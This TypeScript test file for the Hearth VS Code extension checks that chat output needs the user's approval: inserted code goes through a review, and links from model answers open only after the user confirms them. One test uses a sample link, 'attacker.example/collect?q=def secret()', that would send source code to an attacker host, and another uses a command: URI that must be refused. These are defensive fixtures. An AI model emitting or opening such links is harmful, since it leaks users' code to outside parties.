/**
 * Model output does nothing on its own: chat's Insert at Cursor proposes the code in the shared review (nothing
 * changes until Accept), and a link from an answer opens only after the user confirmed its full address.
 * Both go through the product's own ChatCodeActions / openModelLink with the real ReviewService.
 */
import * as assert from "node:assert/strict";
import * as vscode from "vscode";
import { EditorTracker } from "../../../src/chat/chatAttachments";
import { ChatCodeActions } from "../../../src/chat/chatCodeActions";
import { openModelLink } from "../../../src/chat/chatLinks";
import type { ReviewSnapshot } from "../../../src/review/reviewService";
import { hearthApi, waitFor, workspaceFile } from "../helpers";

const reviewState = () => vscode.commands.executeCommand<ReviewSnapshot | undefined>("hearth.review.state");

describe("chat: model output needs the user's accept", function () {
    this.timeout(60_000);
    let tracker: EditorTracker;

    beforeEach(() => (tracker = new EditorTracker()));
    afterEach(async () => {
        tracker.dispose();
        if (await reviewState()) await vscode.commands.executeCommand("hearth.review.reject");
        await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
        await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    });

    async function openAtEndOfFirstLine(): Promise<vscode.TextEditor> {
        const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(workspaceFile("sample.py")));
        const end = editor.document.lineAt(0).range.end;
        editor.selection = new vscode.Selection(end, end);
        await waitFor("the chat's editor tracker to see the editor", () => tracker.editor?.document === editor.document);
        return editor;
    }

    it("Insert at Cursor opens a review; the file changes only on Accept, at the cursor", async () => {
        const api = await hearthApi();
        const editor = await openAtEndOfFirstLine();
        const before = editor.document.getText();
        const cursor = editor.document.offsetAt(editor.selection.active);
        const code = "  # inserted by Hearth";
        const running = new ChatCodeActions(tracker, api.review).run("insert", code);

        const state = await waitFor("the review of the insertion", async () => {
            const s = await reviewState();
            return s && !s.busy ? s : undefined;
        });
        assert.equal(state.text, code, "the review proposes exactly the code");
        assert.equal(editor.document.getText(), before, "the file changed before Accept");

        assert.equal(await vscode.commands.executeCommand("hearth.review.accept"), "accepted");
        await running;
        const after = editor.document.getText();
        assert.equal(after, before.slice(0, cursor) + code + before.slice(cursor));
    });

    it("Insert at Cursor then Reject leaves the file as it was", async () => {
        const api = await hearthApi();
        const editor = await openAtEndOfFirstLine();
        const before = editor.document.getText();
        const running = new ChatCodeActions(tracker, api.review).run("insert", "print('never')");
        await waitFor("the review of the insertion", async () => (await reviewState())?.busy === false);
        assert.equal(await vscode.commands.executeCommand("hearth.review.reject"), "rejected");
        await running;
        assert.equal(editor.document.getText(), before);
        assert.equal(editor.document.isDirty, false);
    });

    it("a link from an answer is opened only after the user confirmed its full address", async () => {
        const exfiltration = "https://attacker.example/collect?q=def%20secret()";
        const opened: string[] = [];
        const shown: string[] = [];
        const deps = (answer: "accept" | "dismiss") => ({
            confirm: async (message: string, detail: string, openTitle: string) => {
                shown.push(`${message}\n${detail}`);
                return answer === "accept" ? openTitle : undefined;
            },
            open: async (uri: vscode.Uri) => {
                // The same address: scheme, host, path and (decoded) query.
                opened.push(`${uri.scheme}://${uri.authority}${uri.path}?${uri.query}`);
                return true;
            },
        });

        assert.equal(await openModelLink(exfiltration, deps("dismiss")), "declined");
        assert.deepEqual(opened, [], "opened without confirmation");
        assert.ok(shown[0]?.includes(exfiltration), `the modal did not show the full address: ${shown[0]}`);
        assert.ok(shown[0]?.includes("attacker.example"), "the modal did not name the receiver");

        assert.equal(await openModelLink(exfiltration, deps("accept")), "opened");
        assert.deepEqual(opened, [decodeURIComponent(exfiltration)]);

        shown.length = 0;
        assert.equal(await openModelLink("command:workbench.action.terminal.new", deps("accept")), "refused");
        assert.deepEqual(shown, [], "a refused link must not even be offered");
        assert.equal(opened.length, 1);
    });
});
